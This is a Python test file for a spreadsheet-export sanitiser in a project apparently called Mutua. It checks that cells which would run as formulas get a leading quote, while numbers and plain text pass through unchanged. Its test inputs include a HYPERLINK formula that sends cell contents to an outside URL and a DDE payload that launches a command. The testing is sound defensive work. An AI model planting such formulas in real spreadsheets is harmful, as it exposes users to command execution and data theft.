"""Text a spreadsheet would run as a formula leaves Mutua inert; numbers stay numbers."""

import pytest

from mutua.core.spreadsheets import inert, inert_rows


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("https://example.org/?q="&A1, "Refund")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "-",
    ],
)
def test_a_formula_gets_a_leading_quote(text: str) -> None:
    assert inert(text) == "'" + text


@pytest.mark.parametrize(
    "cell", ["-12.50", "-1,234.50", "+5", "Rent for May", "", "a=b", 42, -7, None]
)
def test_plain_text_and_numbers_are_left_alone(cell: object) -> None:
    assert inert(cell) == cell


def test_rows_are_made_inert_cell_by_cell() -> None:
    assert inert_rows([["crop", "=1+1"], ["Kale", -3]]) == [["crop", "'=1+1"], ["Kale", -3]]
